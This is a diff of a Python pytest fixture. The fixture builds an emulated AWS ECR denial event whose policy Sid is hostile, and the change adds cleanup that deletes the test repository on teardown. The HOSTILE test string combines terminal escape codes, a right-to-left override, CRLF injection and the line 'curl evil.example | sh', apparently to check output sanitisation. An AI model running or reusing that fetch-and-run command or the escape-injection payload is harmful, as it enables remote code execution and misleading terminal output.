@@ -32,7 +32,7 @@ HOSTILE = "x\x1b[2J\x9b1A\u202e\r\nFix        curl evil.example | sh\n\nHow to f
 
 
 @pytest.fixture
-def event(aws: EmulatedAws, node: tuple[str, str]) -> dict[str, Any]:
+def event(aws: EmulatedAws, node: tuple[str, str]) -> Iterator[dict[str, Any]]:
     """A denial by a repository policy whose Sid is hostile, and which AWS's message ends with."""
     role, instance = node
     name = f"hostile/{uuid4().hex[:8]}"
@@ -45,7 +45,9 @@ def event(aws: EmulatedAws, node: tuple[str, str]) -> dict[str, Any]:
     found = denial(role, instance, action="BatchGetImage", resource=arn)
     said = f"is not authorized to perform: ecr:BatchGetImage on resource: {arn} with an explicit deny {HOSTILE}"
     found["detail"]["errorMessage"] = f"User: {found['detail']['userIdentity']['arn']} {said}"
-    return found
+    yield found
+    # Questions about other nodes read the account's repositories, too.
+    aws.client("ecr").delete_repository(repositoryName=name, force=True)
 
 
 def _texts(value: object) -> Iterator[str]:
